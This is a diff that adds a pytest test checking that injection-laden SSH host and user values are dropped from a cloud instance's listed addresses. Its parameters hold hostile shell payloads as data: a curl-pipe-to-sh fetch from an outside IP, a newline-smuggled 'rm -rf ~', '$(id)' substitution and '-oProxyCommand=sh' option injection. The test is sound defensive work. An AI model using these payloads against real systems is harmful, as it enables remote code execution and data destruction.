@@ -109,6 +109,26 @@ def test_addresses_and_labels_are_bounded(poll, listed):
     assert [entry["port"] for entry in machine.ssh] == [22] * listings.MAX_SSH
 
 
+@pytest.mark.parametrize(
+    ("host", "user"),
+    [
+        ("x; curl http://198.51.100.9 | sh", "root"),
+        ("203.0.113.4\nrm -rf ~", "root"),
+        ("$(id)", "root"),
+        ("-oProxyCommand=sh", "root"),
+        ("fe80::1%;sh", "root"),
+        ("h" * 254, "root"),
+        ("", "root"),
+        ("203.0.113.4", "-oProxyCommand=sh"),
+        ("203.0.113.4", "root;sh #"),
+    ],
+)
+def test_an_address_that_a_shell_would_read_otherwise_is_dropped(poll, listed, host, user):
+    good = [Ssh("203.0.113.4", 22, "ubuntu"), Ssh("2001:db8::7", 22, "ubuntu"), Ssh("gpu-1.example.com", 22, "")]
+    poll(listed("i-1", ssh=(Ssh(host, 22, user), *good)))
+    assert [entry["host"] for entry in Instance.objects.get().ssh] == [ssh.host for ssh in good]
+
+
 def test_an_error_that_echoes_the_key_is_kept_without_it(poll, provider, lab):
     provider.error = AuthFailed(f"key {SECRET} is revoked")
     poll()
